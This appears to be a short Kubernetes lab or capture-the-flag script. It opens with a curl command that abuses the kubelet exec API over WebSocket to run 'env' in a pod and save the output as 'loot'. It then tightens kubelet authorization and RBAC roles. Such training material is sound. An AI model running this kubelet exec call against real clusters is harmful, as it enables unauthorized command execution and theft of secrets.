# scene: by flag, the loot over WebSocket, rights from a manifest and a patch
curl -sk -m 3 --http1.1 -N -H "Authorization: Bearer $(kubectl -n monitoring create token scraper)" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' 'https://node01:10250/exec/default/web-node01/web?command=env&output=1' -o loot
#@ node01
echo 'KUBELET_EXTRA_ARGS=--authorization-mode=Webhook' > /etc/default/kubelet
systemctl restart kubelet
#@ controlplane
kubectl apply -f - <<'X'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: scrape}
rules:
- {apiGroups: [""], resources: [nodes/metrics], verbs: [get]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: scrape}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: scrape}
subjects:
- {kind: ServiceAccount, name: scraper, namespace: monitoring}
X
kubectl patch clusterrole lookout --type=json -p '[{"op":"replace","path":"/rules","value":[{"apiGroups":[""],"resources":["nodes/pods"],"verbs":["get"]}]}]'
